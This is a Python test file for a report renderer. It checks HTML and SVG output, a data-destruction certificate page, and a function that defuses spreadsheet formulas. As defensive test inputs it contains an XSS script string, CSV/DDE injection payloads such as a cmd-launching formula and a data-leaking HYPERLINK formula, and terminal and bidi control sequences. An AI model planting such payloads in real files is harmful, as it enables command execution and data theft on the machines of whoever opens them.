"""Reports need nothing but themselves, and show as text whatever they are given.
A certificate's page says all that the certificate does, and loads and runs nothing.
What a spreadsheet would compute stands behind an apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from vectors.destruction import CERTIFICATE, COUNTERSIGNATURE, STATEMENT, certificate_file, signed

from schemas.documents.printable import inert
from schemas.reports.certificate import CertificateFile
from schemas.reports.certificate_page import certificate_page
from schemas.shared.page import (
    Bar,
    Column,
    Section,
    bar_chart,
    column_chart,
    counts_chart,
    facts,
    findings,
    lines,
    paragraph,
    prose_table,
    render_page,
    table,
    waterfall_chart,
)

HOSTILE = "<script>alert('1')</script>&\""


def every_block(text: str) -> list[str]:
    return [
        paragraph(text),
        findings([("bad", text), ("good", text)]),
        table(text, [text, text], [[text, text]]),
        bar_chart(text, [Bar(text, 0.5, text), Bar(text, 7.0, text, is_bad=True)]),
        column_chart(
            text, [Column(text, 3), Column(text, None)], axis=text, words=text, marks=[(text, 0.5)]
        ),
        counts_chart(text, 3, [(text, 1, 1), (text, 1, 2)]),
        waterfall_chart(text, [(text, 3.0), (text, -1.5)], total=text),
        prose_table(text, [text, text], [[text, text]]),
        facts([(text, text)]),
        lines(text),
    ]


class TagCounter(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]


def test_what_is_passed_in_is_never_markup() -> None:
    page = render_page(HOSTILE, HOSTILE, [Section(HOSTILE, every_block(HOSTILE))], HOSTILE)
    counter = TagCounter()
    counter.feed(page)
    assert "script" not in counter.tags
    assert not {"src", "href", "onload"} & set(counter.attributes)


def test_a_page_fetches_nothing() -> None:
    page = render_page("t", "l", [Section("s", every_block("x"))], "f")
    assert not re.search(r"https?:|url\(|@import|<link", page)
    assert "default-src 'none'" in page


@pytest.mark.parametrize("place", range(10))
def test_every_block_is_well_formed(place: int) -> None:
    ElementTree.fromstring(every_block("a < b & c")[place])


@pytest.mark.parametrize("chart", [bar_chart, column_chart])
def test_a_chart_without_values_is_drawn(chart) -> None:
    ElementTree.fromstring(chart("nothing", []))


def test_a_bar_stays_within_the_chart() -> None:
    (bar,) = ElementTree.fromstring(bar_chart("c", [Bar("l", 9.0, "t")])).iter("rect")
    assert float(bar.get("x")) + float(bar.get("width")) <= 720


@pytest.mark.parametrize(("highest", "last"), [(0, "1"), (1, "1"), (7, "8"), (1912, "2,000")])
def test_a_column_chart_tells_how_high_its_columns_are(highest: int, last: str) -> None:
    chart = ElementTree.fromstring(
        column_chart("c", [Column("2011", highest), Column("2012", None)])
    )
    ticks = [text.text for text in chart.iter("text") if text.get("text-anchor") == "end"]
    assert (ticks[0], ticks[-1]) == ("0", last)


@given(st.lists(st.one_of(st.none(), st.integers(0, 10**9)), min_size=1, max_size=40))
def test_columns_are_inside_the_picture_and_in_proportion(counts: list[int | None]) -> None:
    columns = [Column(str(at), count) for at, count in enumerate(counts)]
    drawn = ElementTree.fromstring(column_chart("c", columns, marks=[("m", 0.0), ("n", 1.0)]))
    shown = []
    for count, bar in zip(counts, drawn.iter("rect"), strict=True):
        x, y, width, height = (float(bar.get(name)) for name in ("x", "y", "width", "height"))
        assert 56 <= x < x + width <= 560
        assert 0 < y <= y + height <= 220.1
        assert (bar.get("class") == "hidden") == (count is None)
        assert count is None or bar[0].text.endswith(f": {count:,}")
        shown += [] if count is None else [(count, height)]
    most, tallest = max(shown, default=(0, 0.0))
    assert tallest > 80 or not most
    # To a tenth of a pixel each.
    for count, height in shown:
        assert height * most == pytest.approx(tallest * count, abs=0.1 * most)


def test_each_bar_of_a_waterfall_begins_where_the_one_above_ends() -> None:
    steps = [("start", -4.0), ("name", 6.0), ("sex", -1.0)]
    chart = ElementTree.fromstring(waterfall_chart("c", steps, total="all"))
    bars = [(float(bar.get("x")), float(bar.get("width"))) for bar in chart.iter("rect")]
    (x0, w0), (x1, w1), (x2, w2), (x3, w3) = bars
    assert x1 == x0
    assert x1 + w1 == pytest.approx(x2 + w2, abs=0.2)
    assert x3 == pytest.approx(x0 + w0, abs=0.2)
    assert w0 / w3 == pytest.approx(4, abs=0.1)
    assert [bar.get("class") for bar in chart.iter("rect")] == [
        "bad", "auto", "bad", "auto",
    ]  # fmt: skip
    shown = [text.text for text in chart.iter("text")]
    assert shown == ["start", "-4.0", "name", "+6.0", "sex", "-1.0", "all", "+1.0"]
    assert max(x + w for x, w in bars) < 720


def test_a_waterfall_of_nothing_is_drawn() -> None:
    ElementTree.fromstring(waterfall_chart("nothing", [], total="all"))


def test_what_may_be_wider_than_the_page_scrolls_and_has_a_name() -> None:
    page = render_page("t", "l", [Section("s", every_block("x"))], "f")
    assert page.count("<svg") + page.count("<table") == page.count('role="region"') == 6
    assert page.count('tabindex="0"') == 6


def page(**other: Any) -> str:
    return certificate_page(CertificateFile.from_json(certificate_file(**other)))


class Tags(HTMLParser):
    """Counts what is open."""

    def __init__(self) -> None:
        super().__init__()
        self.open: list[str] = []
        self.seen: set[str] = set()

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.seen.add(tag)
        if tag not in ("meta",):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def test_every_object_remainder_and_signature_is_on_the_page() -> None:
    shown = page(countersignatures=[signed(COUNTERSIGNATURE)], statements=[signed(STATEMENT)])
    for one in CERTIFICATE["objects"]:
        assert one["object"] in shown
        assert one["sha256"] in shown
    for one in CERTIFICATE["remains"]:
        assert one["why"] in shown
    assert "not yet stated to be deleted" in shown
    assert "Needed for the audit of 2027." in shown
    assert "Counter-signed by" in shown


def test_nothing_is_outstanding_where_all_is_stated() -> None:
    assert "Nothing is outstanding." in page(certificate={**CERTIFICATE, "outstanding": []})


def test_copies_of_keys_that_remain_make_the_destruction_incomplete_until_their_day() -> None:
    shown = page()
    assert "may remain until 2027-09-08 06:00:04 UTC at the latest" in shown
    assert "until then the destruction is not complete" in shown
    gone = page(certificate={**CERTIFICATE, "remains": []})
    assert "not complete" not in gone
    assert "every copy of the objects has ended" in gone


def test_the_page_is_whole_and_runs_nothing() -> None:
    shown = page()
    tags = Tags()
    tags.feed(shown)
    assert tags.open == []
    assert not {"script", "link", "img", "iframe"} & tags.seen
    assert not re.search(r"https?://", shown)
    assert "default-src 'none'" in shown


def test_text_is_shown_as_text() -> None:
    shown = page(certificate={**CERTIFICATE, "paper": "<b>17</b>"})
    assert "&lt;b&gt;17&lt;/b&gt;" in shown


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x/?"&A1)',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-A1",
        "-1+E5",
        "-(E5)",
        "@SUM(A1)",
        "\tA1",
        "\rA1",
        "+1+1",
        "-\u0661x",
        "\uff1d1+1",
        "\uff0bA1",
        "\uff0dA1",
        "\uff20SUM(A1)",
    ],
)
def test_a_formula_is_shown_and_not_computed(cell: str) -> None:
    assert inert(cell) == f"'{cell}"


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("-1\n=2", "'-1\n'=2"),
        ("Order;=1+cmd|'/C calc'!A0;", "Order;'=1+cmd|'/C calc'!A0;"),
        ("a;+1;-1;@SUM(A1)", "a;'+1;'-1;'@SUM(A1)"),
        ("a;\uff1d1+1", "a;'\uff1d1+1"),
        ('a;""=1', 'a;\'""=1'),
        ("a; b\tc", "a; b\tc"),
        ("\x1b]0;x\x07\x9b2J\x7f", r"\x1b]0;x\x07\x9b2J\x7f"),
        ("Ana \u202eselbaT\u2066\u2028", r"Ana \u202eselbaT\u2066\u2028"),
        ("\u200fOrtiz\0", r"\u200fOrtiz\x00"),
    ],
)
def test_what_is_a_formula_to_who_divides_otherwise_is_shown(cell: str, shown: str) -> None:
    assert inert(cell) == shown


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(st.lists(st.text('=+-@\uff1d\uff20;,\t\n"a1 '), min_size=1))
def test_no_cell_is_a_formula_however_a_line_is_divided(delimiter: str, cells: list[str]) -> None:
    file = io.StringIO()
    csv.writer(file).writerow(["first", *map(inert, cells)])
    rows = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter)
    seen = [cell for row in rows for cell in row]
    assert [cell for cell in seen if cell[:1] in {*"=+-@\uff1d\uff20"} and "a" in cell] == []


@pytest.mark.parametrize(
    "cell",
    ["", "-", "-1", "-1.5", "+4,5", "-1.5E-3", "+1 (555) 010-0100", "-5 %", "--", "a=b", "North"],
)
def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
    assert inert(cell) == cell


@given(st.text())
def test_a_cell_is_changed_once_at_most(cell: str) -> None:
    assert inert(inert(cell)) == inert(cell)
